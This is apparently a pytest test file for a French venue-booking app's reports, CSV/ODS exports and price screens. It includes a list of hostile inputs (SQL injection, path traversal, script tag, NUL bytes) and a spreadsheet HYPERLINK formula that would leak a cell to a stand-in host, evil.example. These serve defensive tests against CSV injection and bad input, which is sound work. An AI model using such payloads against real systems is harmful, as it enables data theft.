"""The report and statement pages, their exports and the prices screen, as people use them,
on SQLite and PostgreSQL.

Every route is tried as a visitor, a member, the manager of another venue, the
venue's manager and an administrator. The CSV must open right in LibreOffice
and Excel (UTF-8 with a byte-order mark, semicolons, decimal commas); the .ods
is read back with odfdo, another library than the odfpy that writes it, and
its numbers must be numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal

import pytest
from flask import Flask
from odfdo import Document

from booking.extensions import db
from booking.models import AdminEvent, Membership, Rate, Tariff

from .conftest import Factory
from .support import reports_data as data
from .support.pages import text_of

pytestmark = pytest.mark.postgres

OCTOBER = {"venue": "atelier", "period": "2026-10"}
EXPORTS = [
    "/reports/report.csv",
    "/reports/report.ods",
    "/reports/reservations.csv",
    "/reports/reservations.ods",
    "/reports/statements.csv",
    "/reports/statements.ods",
]
PAGES = ["/reports/", "/reports/statements"]


@pytest.fixture
def month(make: Factory, clock) -> data.Month:
    built = data.build(make)
    make.manager(make.venue(slug="ailleurs"), email="ailleurs@example.org")
    make.user(is_admin=True, email="admin@example.org")
    clock.set(data.paris(2026, 11, 20, 10))
    return built


def _get(client, path: str, **args: str):  # type: ignore[no-untyped-def]
    return client.get(path, query_string=args)


# --- who may see what ------------------------------------------------------------------


@pytest.mark.parametrize("who", ["visitor", "member", "elsewhere", "manager", "admin"])
def test_each_report_route_for_each_kind_of_person(
    app: Flask, client, auth, month: data.Month, who: str
) -> None:
    emails = {
        "member": "alice@example.org",
        "elsewhere": "ailleurs@example.org",
        "manager": "gerante@example.org",
        "admin": "admin@example.org",
    }
    if who in emails:
        auth.login(emails[who])
    routes = [r.rule for r in app.url_map.iter_rules() if r.endpoint.startswith("reports.")]
    assert sorted(routes) == sorted(PAGES + EXPORTS)
    for path in routes:
        status = _get(client, path, venue="atelier", period="2026-10", month="2026-10").status_code
        where = (who, path, status)
        if who == "visitor":
            assert status == 302, where
        elif who == "member":
            assert status == 403, where
        elif who == "elsewhere":
            assert status == 404, where  # another venue's figures do not exist for them
            assert _get(client, path).status_code == 200, (who, path, "their own venue")
        else:
            assert status == 200, where


def test_a_manager_of_one_venue_has_no_choice_of_venue(client, auth, month: data.Month) -> None:
    auth.login("gerante@example.org")
    page = text_of(_get(client, "/reports/", period="2026-10"))
    assert "Atelier de test" in page and "Tout le réseau" not in page
    assert 'name="venue" value="atelier"' in page


def test_an_administrator_reports_on_the_whole_network_or_one_venue(
    client, auth, month: data.Month
) -> None:
    auth.login("admin@example.org")
    network = text_of(_get(client, "/reports/", period="2026-10"))
    assert "<h1>Tout le réseau" in network
    assert re.search(r"Lieux : Atelier de test, Lieu \d+</p>", network)
    one = text_of(_get(client, "/reports/", venue="atelier", period="2026-10"))
    assert "<h1>Atelier de test" in one


# --- the page --------------------------------------------------------------------------


def test_the_report_page_shows_the_hand_built_figures(client, auth, month: data.Month) -> None:
    auth.login("gerante@example.org")
    response = _get(client, "/reports/", **OCTOBER)
    assert response.status_code == 200
    page = text_of(response).replace("\u00a0", " ").replace("\u202f", " ")
    assert "Octobre 2026" in page and "Septembre 2026" in page
    assert "39,5 h" in page  # 2,370 minutes booked
    assert "2 %" in page  # occupancy 2.2 %
    # Each chart: an image with a title and a description; the table of its numbers after it.
    for key in ("occupancy", "statuses", "timeline", "heatmap"):
        assert f'aria-labelledby="chart-{key}-title chart-{key}-desc"' in page
        assert f'<title id="chart-{key}-title">' in page
    assert "barres hachurées" in page  # readable without colour: the period before is hatched
    assert "style=" not in page and "<script>" not in page
    assert "Comment ces chiffres sont comptés" in page


@pytest.mark.parametrize(
    ("args", "field", "message"),
    [
        ({"period": "2026-13"}, "period", "Choisissez une période dans la liste."),
        ({"period": "n'importe quoi"}, "period", "Choisissez une période dans la liste."),
        ({"period": "range", "first": "2026-10-10"}, "last", "Indiquez le dernier jour."),
        (
            {"period": "range", "first": "2026-10-10", "last": "2026-10-01"},
            "last",
            "Le dernier jour vient avant le premier.",
        ),
        (
            {"period": "range", "first": "2020-01-01", "last": "2026-01-01"},
            "last",
            "Trois ans au plus à la fois.",
        ),
        ({"period": "range", "first": "1800-01-01", "last": "2026-01-01"}, "first", "2000"),
        ({"period": "range", "first": "2026-02-30", "last": "2026-03-01"}, "first", ""),
        ({"period": "range", "first": "le 3 mars", "last": "2026-03-01"}, "first", ""),
        ({"period": "range", "first": "2026-10-01", "last": "9999-12-31"}, "last", "2099"),
        ({"period": "2026-10\x00"}, "period", "caractères invisibles"),
        (
            {"period": "range", "first": "2026-10-01\x00", "last": "2026-10-31"},
            "first",
            "caractères invisibles",
        ),
    ],
)
def test_a_period_that_cannot_be_read_is_said_next_to_its_field(
    client, auth, month: data.Month, args: dict, field: str, message: str
) -> None:
    auth.login("gerante@example.org")
    for path in ("/reports/", "/reports/report.ods", "/reports/reservations.csv"):
        response = _get(client, path, venue="atelier", **args)
        assert response.status_code == 422, path
        page = text_of(response).replace("\u00a0", " ")
        error = re.search(rf'id="{field}-error">(.*?)</p>', page, re.S)
        assert error and message in error.group(1), (path, page[:200])


HOSTILE = [
    "",
    " ",
    "0",
    "-1",
    "99999999999999999999",
    "2026-02-30",
    "0001-01-01",
    "é" * 5000,
    "<script>",
    "' OR 1=1 --",
    "%00",
    "../../etc/passwd",
    "🙂",
]


@pytest.mark.parametrize("name", ["venue", "period", "first", "last", "month", "table"])
def test_no_address_makes_a_report_fail(client, auth, month: data.Month, name: str) -> None:
    """Whatever the address holds, a page or a message, never a server error (PostgreSQL
    refuses NUL: a venue so named is not found, a period so written is said wrong)."""
    auth.login("gerante@example.org")
    base = {"venue": "atelier", "period": "range", "first": "2026-10-01", "last": "2026-10-31"}

    # Each value where it is read: the month by the statements, the period by the rest,
    # the table by the CSVs, the venue by all.
    def reads(path: str) -> bool:
        if name == "table":
            return path.endswith(".csv") and "reservations" not in path
        if name == "venue":
            return True
        return ("statements" in path) == (name == "month")

    for path in filter(reads, (*PAGES, *EXPORTS)):
        for value in HOSTILE:
            status = _get(client, path, **{**base, "month": "2026-10", name: value}).status_code
            assert status in (200, 404, 422), (path, name, value, status)
        status = _get(client, path, **{**base, "month": "2026-10", name: "2026\x00"}).status_code
        assert status == (404 if name in ("venue", "table") else 422), (path, name, status)


def test_a_range_of_days_is_compared_with_as_many_days_before(
    client, auth, month: data.Month
) -> None:
    auth.login("gerante@example.org")
    response = _get(
        client, "/reports/", venue="atelier", period="range", first="2026-10-20", last="2026-10-21"
    )
    page = text_of(response).replace("\u00a0", " ")
    assert response.status_code == 200
    assert "26 h" in page  # the desks: h 16 + i 4 + j 6 seat-hours
    assert "18 octobre" in page  # the period before: 18 and 19 October


def test_statements_page_and_unknown_month(client, auth, month: data.Month) -> None:
    auth.login("gerante@example.org")
    page = text_of(_get(client, "/reports/statements", venue="atelier", month="2026-10"))
    page = page.replace("\u00a0", " ").replace("\u202f", " ")
    assert "272,00 €" in page and "144,00 €" in page and "Tarif extérieur" in page
    assert "24,00 € de l’heure" in page  # Bob's 25 October, after the price rose
    wrong = _get(client, "/reports/statements", venue="atelier", month="2026-Q4")
    assert wrong.status_code == 422
    assert "Choisissez un mois dans la liste." in text_of(wrong)
    hidden = _get(client, "/reports/statements.csv", venue="atelier", month="2026-10\x00")
    assert hidden.status_code == 422
    error = re.search(r'id="month-error">(.*?)</p>', text_of(hidden), re.S)
    assert error and "caractères invisibles" in error.group(1)


# --- the files -------------------------------------------------------------------------


def _csv(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    body = response.data
    assert body.startswith("\ufeff".encode())  # Excel reads UTF-8 with its byte-order mark
    assert b"\r\n" in body and b"\n" not in body.replace(b"\r\n", b"")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_resources_table_as_csv(client, auth, month: data.Month) -> None:
    auth.login("gerante@example.org")
    response = _get(client, "/reports/report.csv", table="resources", **OCTOBER)
    assert (
        'filename="rapport-ressources-atelier-2026-10.csv"'
        in response.headers["Content-Disposition"]
    )
    rows = _csv(response)
    assert rows[0][:4] == [
        "Ressource",
        "Places",
        "Heures réservées (heures)",
        "Heures réservées, période précédente (heures)",
    ]
    oven = next(row for row in rows if row[0] == "Four")
    # Decimal commas, no unit in the cell: 13,5 hours; occupancy 3,8 %; 5 bookings.
    assert oven[1:4] == ["1", "13,50", "5,00"]
    assert oven[5] == "3,8" and oven[6] == "1,4" and oven[7] == "5"
    assert rows[-1][0] == "Total" and rows[-1][2] == "39,50"


def test_the_statement_lines_as_csv(client, auth, month: data.Month) -> None:
    auth.login("gerante@example.org")
    rows = _csv(
        _get(client, "/reports/statements.csv", table="lines", venue="atelier", month="2026-10")
    )
    header = rows[0]
    bob = [dict(zip(header, row, strict=True)) for row in rows[1:] if row[0] == "Bob Durand"]
    night = next(line for line in bob if line["Début"] == "2026-10-25 00:00")
    assert night["Fin"] == "2026-10-25 04:00"
    assert night["Heures utilisées (heures)"] == "5,00"  # five real hours across the change
    assert night["Tarif"] == "Tarif extérieur"
    assert night["Prix (€)"] == "24,00" and night["Montant (€)"] == "120,00"
    assert night["Facturé"] == "à l’heure"


def test_the_reservations_of_the_period_as_csv_include_every_status(
    client, auth, month: data.Month
) -> None:
    auth.login("gerante@example.org")
    rows = _csv(_get(client, "/reports/reservations.csv", **OCTOBER))
    statuses = sorted(row[9] for row in rows[1:])
    assert len(rows) == 1 + 11
    assert statuses.count("Confirmée") == 8
    assert {"Annulée", "Refusée", "Expirée (pas de décision à temps)"} <= set(statuses)
    assert any("Bob Durand" in row for row in rows)


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2;"Amina")'


@pytest.mark.parametrize(
    ("path", "args"),
    [
        ("/reports/statements.csv", {"table": "lines", "venue": "atelier", "month": "2026-10"}),
        ("/reports/statements.csv", {"table": "members", "venue": "atelier", "month": "2026-10"}),
        ("/reports/reservations.csv", OCTOBER),
    ],
)
def test_a_name_that_looks_like_a_formula_stays_text_in_the_csv(
    client, auth, month: data.Month, path: str, args: dict
) -> None:
    """A member who names themself like a spreadsheet formula does not get it run on the
    manager's computer (OWASP's CSV injection): the cell starts with an apostrophe, which
    spreadsheets hide; numbers stay numbers, negative ones included."""
    from booking.models import User

    bob = db.session.scalar(db.select(User).where(User.display_name == "Bob Durand"))
    bob.display_name = FORMULA
    db.session.commit()
    auth.login("gerante@example.org")
    rows = _csv(_get(client, path, **args))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    live = [
        cell
        for cell in cells
        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        and not re.fullmatch(r"-\d+(,\d+)?", cell)
    ]
    assert live == []


def test_csv_cells_neutralise_formulas_and_keep_numbers() -> None:
    from booking.presentation.exports import csv_value
    from booking.presentation.tables import Kind

    for text in ("=1+2", "+33 6 12", "-x", "@SUM(A1)", "\tTab", "\rCR"):
        assert csv_value(Kind.TEXT, text) == "'" + text
    assert csv_value(Kind.TEXT, "Amina") == "Amina"
    assert csv_value(Kind.CHANGE, -0.255) == "-25,5"
    assert csv_value(Kind.MONEY, -1250) == "-12,50"


def _sheets(body: bytes) -> dict[str, list[list[tuple[str | None, object]]]]:
    """Each sheet's rows, each cell as (value type, value), read back by odfdo."""
    document = Document(io.BytesIO(body))
    assert document.mimetype == "application/vnd.oasis.opendocument.spreadsheet"
    return {
        sheet.name: [
            [(cell.type, cell.value) for cell in row.traverse()] for row in sheet.traverse()
        ]
        for sheet in document.body.tables
    }


def test_the_report_as_a_spreadsheet_has_numbers_that_are_numbers(
    client, auth, month: data.Month
) -> None:
    auth.login("gerante@example.org")
    response = _get(client, "/reports/report.ods", **OCTOBER)
    assert response.headers["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
    sheets = _sheets(response.data)
    assert list(sheets) == [
        "Chiffres clés",
        "Utilisation de chaque ressource",
        "Réservations et demandes",
        "Heures réservées, jour par jour",
        "Heures réservées par jour",
        "Formations délivrées",
    ]
    resources = sheets["Utilisation de chaque ressource"]
    oven = next(row for row in resources if row[0][1] == "Four")
    assert oven[0] == ("string", "Four")
    assert oven[2] == ("float", Decimal("13.5"))  # hours
    assert oven[5][0] == "percentage" and float(oven[5][1]) == pytest.approx(810 / 21600, abs=1e-6)
    assert oven[7] == ("float", 5)  # bookings
    summary = sheets["Chiffres clés"]
    assert summary[1][:2] == [("string", "Octobre 2026"), ("float", Decimal("39.5"))]
    assert summary[1][4] == ("float", 3)  # people who booked


def test_the_statements_as_a_spreadsheet_have_amounts_in_euros(
    client, auth, month: data.Month
) -> None:
    auth.login("gerante@example.org")
    sheets = _sheets(_get(client, "/reports/statements.ods", venue="atelier", month="2026-10").data)
    people = sheets["Relevé par personne"]
    alice = next(row for row in people if row[0][1] == "Alice Martin")
    assert alice[-1] == ("currency", 123) and alice[-3] == ("float", 5)
    total = people[-1]
    assert total[0][1] == "Total" and total[-1] == ("currency", 272)
    lines = sheets["Réservations utilisées"]
    assert lines[1][2] == ("date", datetime(2026, 10, 5, 10, 0))  # a date, not text


# --- prices and rates --------------------------------------------------------------------


def test_a_manager_sets_a_price_from_a_later_day(client, auth, month: data.Month) -> None:
    auth.login("gerante@example.org")
    url = f"/manage/venues/atelier/resources/{month.desks}/prices"
    page = text_of(client.get(url)).replace("\u00a0", " ")
    assert "5,00 € la réservation" in page and "8,00 € la réservation" in page
    response = client.post(
        url,
        data={
            "valid_from": "2026-12-01",
            "unit": "hour",
            "member_price": "2,5",
            "outside_price": "6 €",
        },
    )
    assert response.status_code == 302
    added = (
        db.session.query(Tariff)
        .filter_by(resource_id=month.desks, valid_from=date(2026, 12, 1))
        .one()
    )
    assert (added.unit.value, added.member_cents, added.outside_cents) == ("hour", 250, 600)
    event = (
        db.session.query(AdminEvent)
        .filter_by(action="price.added")
        .order_by(AdminEvent.id.desc())
        .first()
    )
    assert event.resource_id == month.desks
    page = text_of(client.get(url)).replace("\u00a0", " ")
    assert "À partir du mardi 1 décembre 2026" in page or "1 décembre 2026" in page
    # Withdrawn before it starts.
    added_id = added.id
    withdraw = client.post(f"{url}/{added_id}/remove")
    assert withdraw.status_code == 302
    assert db.session.query(Tariff).filter_by(id=added_id).count() == 0


@pytest.mark.parametrize(
    ("form", "field", "message"),
    [
        ({"valid_from": "2026-11-19"}, "valid_from", "au plus tôt aujourd’hui"),
        ({"member_price": "douze"}, "member_price", "Écrivez un montant en euros"),
        ({"outside_price": ""}, "outside_price", "Indiquez le prix extérieur"),
        ({"member_price": "20000"}, "member_price", "au plus"),
        ({"unit": "année"}, "unit", ""),
        ({"member_price": "12\x00"}, "member_price", "caractères invisibles"),
        ({"member_price": "-5"}, "member_price", "Écrivez un montant en euros"),
        ({"outside_price": "1e3"}, "outside_price", "Écrivez un montant en euros"),
        ({"valid_from": "2026-02-30"}, "valid_from", "date"),
        ({"valid_from": "2026-12-01\x00"}, "valid_from", "caractères invisibles"),
        ({"valid_from": "2150-01-01"}, "valid_from", "2099"),
    ],
)
def test_a_wrong_price_is_refused_next_to_its_field(
    client, auth, month: data.Month, form: dict, field: str, message: str
) -> None:
    auth.login("gerante@example.org")
    url = f"/manage/venues/atelier/resources/{month.desks}/prices"
    values = {
        "valid_from": "2026-12-01",
        "unit": "booking",
        "member_price": "5",
        "outside_price": "8",
    }
    before = db.session.query(Tariff).count()
    response = client.post(url, data={**values, **form})
    assert response.status_code == 422
    page = text_of(response).replace("\u00a0", " ")
    error = re.search(rf'id="{field}-error">(.*?)</p>', page, re.S)
    assert error and message in error.group(1)
    assert db.session.query(Tariff).count() == before


def test_two_prices_cannot_start_the_same_day(client, auth, month: data.Month) -> None:
    auth.login("gerante@example.org")
    url = f"/manage/venues/atelier/resources/{month.desks}/prices"
    values = {
        "valid_from": "2026-12-01",
        "unit": "booking",
        "member_price": "5",
        "outside_price": "8",
    }
    assert client.post(url, data=values).status_code == 302
    again = client.post(url, data={**values, "member_price": "6"})
    assert again.status_code == 422
    assert "Un prix commence déjà ce jour-là" in text_of(again).replace("\u00a0", " ")


def test_a_price_that_has_started_cannot_be_withdrawn(client, auth, month: data.Month) -> None:
    auth.login("gerante@example.org")
    started = (
        db.session.query(Tariff)
        .filter_by(resource_id=month.oven, valid_from=date(2026, 10, 15))
        .one()
    )
    response = client.post(
        f"/manage/venues/atelier/resources/{month.oven}/prices/{started.id}/remove"
    )
    assert response.status_code == 422
    assert "Ce prix a déjà commencé" in text_of(response).replace("\u00a0", " ")
    assert db.session.get(Tariff, started.id) is not None


def test_a_price_of_another_venue_is_not_found(
    client, auth, month: data.Month, make: Factory
) -> None:
    auth.login("ailleurs@example.org")
    assert client.get(f"/manage/venues/atelier/resources/{month.oven}/prices").status_code == 404
    auth.login("gerante@example.org")
    other = make.resource(db.session.query(type(make.venue())).filter_by(slug="ailleurs").one())
    assert client.get(f"/manage/venues/atelier/resources/{other.id}/prices").status_code == 404


def test_the_outside_rate_is_set_on_the_members_screen(client, auth, month: data.Month) -> None:
    auth.login("gerante@example.org")
    url = f"/manage/venues/atelier/members/{month.carol}"
    assert re.search(
        r'<input checked id="rate-0" name="rate"[^>]*value="member"', text_of(client.get(url))
    )
    response = client.post(url + "/rate", data={"rate": "outside"})
    assert response.status_code == 302
    membership = (
        db.session.query(Membership).filter_by(user_id=month.carol, venue_id=month.venue).one()
    )
    assert membership.rate == Rate.OUTSIDE
    listing = text_of(client.get("/manage/venues/atelier/members"))
    assert listing.count("Tarif extérieur") == 2  # Bob and now Carol
    for value, message in (
        ("gratuit", "N'est pas un choix valide."),
        ("member\x00", "caractères invisibles"),
        ("", "Ce champ est requis."),
    ):
        wrong = client.post(url + "/rate", data={"rate": value})
        assert wrong.status_code == 422, value
        error = re.search(r'id="rate-error">(.*?)</p>', text_of(wrong), re.S)
        assert error and message in error.group(1), value  # said next to the choice
        db.session.refresh(membership)
        assert membership.rate == Rate.OUTSIDE, value
    # Her October statement now counts at the outside rate: one seat at 8 €.
    page = text_of(
        client.get("/reports/statements", query_string={"venue": "atelier", "month": "2026-10"})
    )
    assert "8,00 € la réservation" in page
